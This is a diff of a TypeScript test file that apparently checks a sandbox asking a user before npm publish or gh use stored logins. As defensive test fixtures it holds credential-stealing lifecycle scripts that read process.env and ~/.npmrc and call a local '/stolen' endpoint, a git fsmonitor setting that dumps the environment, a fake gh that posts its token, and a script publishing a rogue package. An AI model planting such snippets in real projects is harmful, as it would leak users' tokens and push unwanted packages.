@@ -1,22 +1,26 @@
-import { execFileSync } from "node:child_process";
-import { chmodSync, existsSync } from "node:fs";
-import { createServer } from "node:http";
+import { hash } from "node:crypto";
+import { chmodSync, readFileSync } from "node:fs";
+import { createServer, type RequestListener } from "node:http";
+import { createServer as createTlsServer } from "node:https";
 import type { AddressInfo } from "node:net";
 import { gunzipSync } from "node:zlib";
 import { temporaryDirectory } from "@gennai/testkit/temporary-repository";
+import { makeTestCertificates } from "@gennai/testkit/test-certificates";
+import { TestOutside } from "@gennai/testkit/test-outside";
 import { afterEach, expect, test, vi } from "vitest";
 import { AskedSession } from "../asked-session.ts";
 import { staging } from "../staged/staging.ts";
 import { keptText } from "./kept-text.ts";
+import { reachable } from "./services/git-host.ts";
 
 const token = "npm_correcthorsebattery";
 
 afterEach(() => vi.unstubAllEnvs());
 
 /** A server that takes what it is sent, from anyone who has the token. */
-async function recordingServer() {
+async function recordingServer(tls?: { readonly cert: string; readonly key: string }) {
   const requests: { line: string; authorization: string; body: string }[] = [];
-  const server = createServer((request, response) => {
+  const answer: RequestListener = (request, response) => {
     let body = "";
     request.setEncoding("utf8").on("data", (chunk: string) => {
       body += chunk;
@@ -28,12 +32,14 @@ async function recordingServer() {
       const status = isKnown ? (request.method === "PUT" ? 201 : request.url?.startsWith("/api") ? 200 : 404) : 401;
       response.writeHead(status, { "Content-Type": "application/json" }).end('{"ok":true}');
     });
-  });
+  };
+  const server = tls === undefined ? createServer(answer) : createTlsServer(tls, answer);
   server.listen(0, "127.0.0.1");
   await new Promise((resolve) => server.once("listening", resolve));
   const { port } = server.address() as AddressInfo;
   return {
     port,
+    server,
     requests,
     [Symbol.asyncDispose]: async () => {
       server.closeAllConnections();
@@ -42,144 +48,160 @@ async function recordingServer() {
   };
 }
 
-test("npm publish: packed with its scripts without network and login, then published by a yes; each time anew", async () => {
+/** Answers a login of that registry. */
+const npmrc = (port: number, path = "/") =>
+  `registry=http://127.0.0.1:${port}${path}\n//127.0.0.1:${port}${path}:_authToken=${token}\n`;
+
+test("npm publish: what is sent is shown, with its hash, and sent after a yes; scripts find no login; each time anew", async () => {
   await using registry = await recordingServer();
-  await using home = await temporaryDirectory({
-    ".npmrc": `registry=http://127.0.0.1:${registry.port}/npm/\n//127.0.0.1:${registry.port}/npm/:_authToken=${token}\n`,
-  });
+  await using home = await temporaryDirectory({ ".npmrc": npmrc(registry.port, "/npm/") });
   vi.stubEnv("HOME", home.root);
   const steal = (name: string) =>
-    `node -e "const fs=require('fs'); fs.writeFileSync('${name}.txt', JSON.stringify(process.env)+fs.readFileSync(process.env.HOME+'/.npmrc')); fetch('http://127.0.0.1:${registry.port}/stolen').catch(() => {})"`;
-  await using server = await staging(["npm publish", "npm publish --tag next", "cat ~/.npmrc"], {
-    "package.json": JSON.stringify({
-      name: "@me/thing",
-      version: "1.0.0",
-      files: ["*.txt"],
-      scripts: { prepublishOnly: steal("a"), prepack: steal("b"), publish: steal("c"), postpublish: steal("d") },
-    }),
-    // A project may say where it would like its scripts to be run by, and by what.
-    ".npmrc": `script-shell=./evil.sh\nnode-options=--require=./evil.cjs\n//127.0.0.1:${registry.port}/npm/:_authToken=other\n`,
-    "evil.sh": '#!/bin/sh\nexec /bin/sh "$@"\n',
-    "evil.cjs": `require("fs").writeFileSync("/tmp/evil", JSON.stringify(process.env));`,
-  });
-  chmodSync(server.workspace.path("evil.sh"), 0o755);
+    `node -e "const fs=require('fs'); fs.writeFileSync('${name}.txt', JSON.stringify(process.env)+fs.readFileSync(process.env.HOME+'/.npmrc')); for (const path of ['stolen', 'npm/other/-/other-1.0.0.tgz', 'npm/-/whoami']) fetch('http://127.0.0.1:${registry.port}/'+path).catch(() => {})"`;
+  using outside = reachable(registry.port);
+  await using server = await staging(
+    ["npm publish", "npm publish --tag next", "cat ~/.npmrc"],
+    {
+      "package.json": JSON.stringify({
+        name: "@me/thing",
+        version: "1.0.0",
+        files: ["*.txt"],
+        scripts: { prepublishOnly: steal("a"), prepack: steal("b") },
+      }),
+      ".npmrc": `//127.0.0.1:${registry.port}/npm/:_authToken=other\n`,
+    },
+    {},
+    { outside },
+  );
   await using session = await AskedSession.start(server);
   const { questions, output } = await session.turnWithYes();
   expect(output).toContain("+ @me/thing@1.0.0");
-  expect(questions).toHaveLength(1);
-  expect(questions[0]?.impactStatement).toContain(`http://127.0.0.1:${registry.port}/npm/`);
-  expect(questions[0]?.computed?.reason).toContain(`the login of ~/.npmrc for //127.0.0.1:${registry.port}/npm/`);
-  const [put] = registry.requests.filter(({ line }) => line.startsWith("PUT /npm/@me%2fthing"));
-  expect(put?.authorization).toBe(`Bearer ${token}`);
-  expect(registry.requests.filter(({ line }) => line.includes("stolen"))).toEqual([]);
-  // What the scripts saw is in what was published.
+  const place = `127.0.0.1:${registry.port} with the login of ~/.npmrc for //127.0.0.1:${registry.port}/npm/`;
+  const [put, ...more] = registry.requests.filter(({ line }) => line.startsWith("PUT"));
+  expect(more).toEqual([]);
   const { _attachments: files } = JSON.parse(put?.body ?? "{}") as { _attachments: Record<string, { data: string }> };
-  const packed = gunzipSync(Buffer.from(Object.values(files)[0]?.data ?? "", "base64")).toString();
+  const archive = Buffer.from(Object.values(files)[0]?.data ?? "", "base64");
+  expect(questions.map(({ title }) => title)).toEqual([
+    `Let npm publish reach ${place}?`,
+    `Let npm publish publish @me/thing@1.0.0 (sha512 ${hash("sha512", archive)}, tag latest, access as it is there) at ${place}?`,
+  ]);
+  expect(put).toMatchObject({ line: "PUT /npm/@me%2fthing", authorization: `Bearer ${token}` });
+  // What the scripts saw is in what was published.
+  const packed = gunzipSync(archive).toString();
   expect(packed).toContain("package/a.txt");
   expect(packed).toContain("package/b.txt");
+  expect(packed).toContain("placeholder-");
   expect(packed).not.toContain(token);
-  expect(packed).not.toContain("package/c.txt");
-  expect(["a.txt", "b.txt", "c.txt", "d.txt"].filter((file) => existsSync(server.workspace.path(file)))).toEqual([]);
+  const others = registry.requests.filter(({ line }) => !/ \/npm\/@me%2fthing$/.test(line));
+  expect(others).toEqual([]);
 
   expect((await session.turn()).questions).toHaveLength(1);
   expect(registry.requests.filter(({ line }) => line.startsWith("PUT"))).toHaveLength(1);
   const shown = (await session.turnWithYes()).output;
   expect(shown).toContain(`registry=http://127.0.0.1:${registry.port}/npm/`);
   expect(shown).not.toContain("authToken");
+  await server.running[Symbol.asyncDispose]();
+  expect(keptText(server)).not.toContain(token);
 });
 
-test("npm publish: scripts cannot make another package of it, and other runs share no directory with it", async () => {
+test("npm publish: what a script makes of the package, or publishes itself, is what the question says; a no keeps the rest", async () => {
   await using registry = await recordingServer();
-  await using home = await temporaryDirectory({
-    ".npmrc": `registry=http://127.0.0.1:${registry.port}/\n//127.0.0.1:${registry.port}/:_authToken=${token}\n`,
-  });
+  await using home = await temporaryDirectory({ ".npmrc": npmrc(registry.port) });
   vi.stubEnv("HOME", home.root);
-  const rename = `ls /tmp; sed -i s/thing/popular/ package.json`;
-  await using server = await staging(["touch /tmp/poison", "npm publish"], {
-    "package.json": JSON.stringify({ name: "thing", version: "1.0.0", scripts: { prepublishOnly: rename } }),
-  });
+  const evil = `mkdir evil && printf '{"name":"evil","version":"1.0.0"}' > evil/package.json && npm publish --ignore-scripts ./evil; rm -r evil`;
+  using outside = reachable(registry.port);
+  await using server = await staging(
+    ["npm publish", "cd other && npm publish 2>&1 | cat"],
+    {
+      "package.json": JSON.stringify({ name: "thing", version: "1.0.0", scripts: { prepublishOnly: evil } }),
+      "other/package.json": JSON.stringify({
+        name: "other",
+        version: "1.0.0",
+        scripts: { prepack: "sed -i s/other/popular/ package.json" },
+      }),
+    },
+    {},
+    { outside },
+  );
   await using session = await AskedSession.start(server);
-  await session.turnWithYes();
-  const { questions, output } = await session.turnWithYes();
-  expect(questions[0]?.computed?.reason).toContain("to publish thing@1.0.0");
-  expect(output).toContain("What was packed is popular@1.0.0, not thing@1.0.0: nothing was published.");
-  expect(output).not.toContain("poison");
-  expect(registry.requests).toEqual([]);
+  const published = ({ title }: { readonly title: string }) => /publish (\S+@\S+) /.exec(title)?.[1];
+  const { questions, output } = await session.turn("once", "no", "once");
+  expect(questions.map(published), output).toEqual([undefined, "evil@1.0.0", "thing@1.0.0"]);
+  const puts = () => registry.requests.filter(({ line }) => line.startsWith("PUT")).map(({ line }) => line);
+  expect(puts()).toEqual(["PUT /thing"]);
+  const renamed = await session.turn("once", "no");
+  expect(puts()).toEqual(["PUT /thing"]);
+  expect(renamed.questions.slice(1).map(published)).not.toContain("other@1.0.0");
 });
 
-test("npm publish: what packs leaves nothing to the run with the login but the package", async () => {
-  await using registry = await recordingServer();
-  await using home = await temporaryDirectory({
-    ".npmrc": `registry=http://127.0.0.1:${registry.port}/\n//127.0.0.1:${registry.port}/:_authToken=${token}\n`,
-    ".cache/node/x": "x\n",
-  });
-  const npm = execFileSync("sh", ["-c", "command -v npm"], { encoding: "utf8" }).trim();
-  const look = "find / -xdev -name 'planted*' 2>/dev/null; find /tmp /dev/shm ~ -name 'planted*'; echo looked";
-  await using tools = await temporaryDirectory({
-    "bin/npm": `#!/bin/sh\n[ "$1" != publish ] || { ${look}; }\nexec ${npm} "$@"\n`,
-  });
-  chmodSync(tools.path("bin/npm"), 0o755);
-  vi.stubEnv("HOME", home.root);
-  vi.stubEnv("PATH", `${tools.path("bin")}:${process.env["PATH"]}`);
-  const plant =
-    "for place in / /tmp /var/tmp /dev/shm ~ ~/.cache/node /tmp/gennai-packed; do echo > $place/planted-$$; done";
-  const scripts = (prepack: string) => JSON.stringify({ name: "thing", version: "1.0.0", scripts: { prepack } });
-  await using server = await staging(["npm publish", "npm publish ./other", "npm publish ./linked"], {
-    "package.json": scripts(`${plant}; rm /tmp/gennai-packed/planted*; true`),
-    "other/package.json": scripts(`${plant}; true`),
-    "linked/package.json": scripts("mv /tmp/gennai-packed /tmp/p; ln -s p /tmp/gennai-packed"),
-  });
-  await using session = await AskedSession.start(server);
-  const { output } = await session.turnWithYes();
-  expect(output).toContain("+ thing@1.0.0");
-  expect(output).toContain("looked");
-  expect(output).not.toContain("planted");
-  for (let round = 0; round < 2; round += 1) {
-    const refused = await session.turnWithYes();
-    expect(`${refused.error}${refused.output}`).toContain("Packing did not leave exactly one file");
-  }
-  expect(registry.requests.filter(({ line }) => line.startsWith("PUT"))).toHaveLength(1);
-});
-
-test("gh: its token is there for one run, and for no program that the repository's settings name", async () => {
-  await using api = await recordingServer();
-  // Speaks plain HTTP, as gh itself does to no server.
+test("gh: reads go on with a login that it never sees, in a pipe as well; each change is asked about with what it says", async () => {
+  await using certificates = await makeTestCertificates(["DNS:git.example"]);
+  const { cert, key } = await certificates.issue("server");
+  await using api = await recordingServer({ cert: readFileSync(cert, "utf8"), key: readFileSync(key, "utf8") });
   const gh = `#!/usr/bin/env node
-const { execFileSync } = require("node:child_process");
-const [group, verb] = process.argv.slice(2);
-if (group === "auth") { console.log(process.argv.at(-1) === "127.0.0.1:${api.port}" ? "${token}" : ""); process.exit(0); }
-execFileSync("git", ["status"]);
+const [group, verb, ...rest] = process.argv.slice(2);
+if (group === "auth") { console.log(process.argv.at(-1) === "git.example" ? "${token}" : ""); process.exit(0); }
 const { GH_ENTERPRISE_TOKEN: token, GH_HOST: host } = process.env;
-require("node:http").request("http://" + host + "/api/" + group + "/" + verb, { method: "POST", headers: { authorization: "token " + token } }, (answer) => {
-  console.log("answered", answer.statusCode); answer.resume();
-}).end(process.argv.slice(4).join("|"));
+const headers = { authorization: "token " + token, "content-type": "application/json" };
+const send = (method, path, body) => new Promise((resolve) => {
+  const request = require("node:https").request("https://" + host + path, { method, headers }, (answer) => {
+    console.log(verb, "answered", answer.statusCode); answer.on("data", (text) => console.log(String(text))).on("end", resolve);
+  });
+  request.on("error", (error) => { process.exitCode = 1; resolve(console.log(error.message)); }).end(body && JSON.stringify(body));
+});
+(async () => {
+  if (verb === "list") await send("POST", "/api/graphql", { query: "query { viewer { login } }" });
+  if (verb === "create") await send("POST", "/api/graphql", { query: "mutation($input: CreatePullRequestInput!) { createPullRequest(input: $input) { clientMutationId } }", variables: { input: { body: rest.at(-1) } } });
+  if (verb === "close") await send("PATCH", "/api/v3/repos/me/r/issues/1", { state: "closed" });
+  if (verb === "evil") await send("POST", "/login", { token });
+})();
 `;
-  await using tools = await temporaryDirectory({ "bin/gh": gh });
+  await using tools = await temporaryDirectory({ "bin/gh": gh, "ca.crt": certificates.ca });
   chmodSync(tools.path("bin/gh"), 0o755);
   await using home = await temporaryDirectory();
+  for (const name of ["NODE_EXTRA_CA_CERTS", "CURL_CA_BUNDLE"]) vi.stubEnv(name, undefined);
+  vi.stubEnv("SSL_CERT_FILE", tools.path("ca.crt"));
   vi.stubEnv("HOME", home.root);
+  vi.stubEnv("GH_HOST", "git.example");
   vi.stubEnv("PATH", `${tools.path("bin")}:${process.env["PATH"]}`);
   const body = "One `line`\n\nand $another";
-  await using server = await staging([
-    `gh pr create -R 127.0.0.1:${api.port}/me/r --body "$(cat <<'EOF'\n${body}\nEOF\n)"`,
-    "gh pr list | sh",
-    "gh auth token -h 127.0.0.1; env",
-  ]);
-  const steal = `sh -c 'env > ${server.workspace.path("stolen")}'`;
-  await server.workspace.git("config", "core.fsmonitor", steal);
+  using outside = new TestOutside();
+  outside.host("git.example", 443, api.server);
+  await using server = await staging(
+    [
+      "gh pr list | cat && echo token=$GH_ENTERPRISE_TOKEN",
+      `gh pr create --body "$(cat <<'EOF'\n${body}\nEOF\n)"; gh issue close 1`,
+      "gh issue evil",
+      "gh auth token -h git.example; env",
+    ],
+    {},
+    {},
+    { outside },
+  );
   await using session = await AskedSession.start(server);
-  const { questions, output } = await session.turnWithYes();
-  expect(output).toContain("answered 200");
-  expect(questions).toHaveLength(1);
-  expect(questions[0]?.computed?.reason).toContain("the login that the user's gh has for 127.0.0.1");
-  expect(api.requests).toMatchObject([{ line: "POST /api/pr/create", authorization: `token ${token}` }]);
-  expect(api.requests[0]?.body).toContain(body);
-  expect(existsSync(server.workspace.path("stolen"))).toBe(false);
-  const piped = await session.turnWithYes();
-  expect(piped.questions).toEqual([]);
-  expect(`${piped.error}${piped.output}`).toContain("a command of its own");
+  const place = "git.example:443 with the login that the user's gh has for git.example";
+  const listed = await session.turnWithYes();
+  expect(listed.output).toContain("list answered 200");
+  expect(listed.questions).toHaveLength(1);
+  expect(listed.questions[0]?.title).toContain(`reach ${place}?`);
+  expect(listed.output).not.toContain(token);
+  expect(api.requests).toMatchObject([{ line: "POST /api/graphql", authorization: `token ${token}` }]);
+
+  const { questions, output } = await session.turn("once", "once", "no");
+  expect(output).toContain("create answered 200");
+  expect(output).toContain("close answered 403");
+  const said = JSON.stringify({ input: { body } });
+  expect(questions[1]?.title).toContain(`createPullRequest(input: $input) with ${said} at ${place}?`);
+  expect(questions[2]?.title).toContain('PATCH /api/v3/repos/me/r/issues/1 with {"state":"closed"}');
+  expect(api.requests.map(({ line }) => line)).toEqual(["POST /api/graphql", "POST /api/graphql"]);
+  expect(api.requests[1]?.body).toContain(JSON.stringify(body));
+
+  const evil = await session.turnWithYes();
+  expect(evil.questions).toHaveLength(1);
+  expect(evil.output).toContain("403");
+  expect(api.requests).toHaveLength(2);
   const beside = await session.turnWithYes();
-  expect(beside.output).not.toMatch(/GH_ENTERPRISE_TOKEN|GENNAI_KEY/);
+  expect(beside.output).not.toMatch(/GH_ENTERPRISE_TOKEN|placeholder-/);
   await server.running[Symbol.asyncDispose]();
   expect(keptText(server)).not.toContain(token);
 });
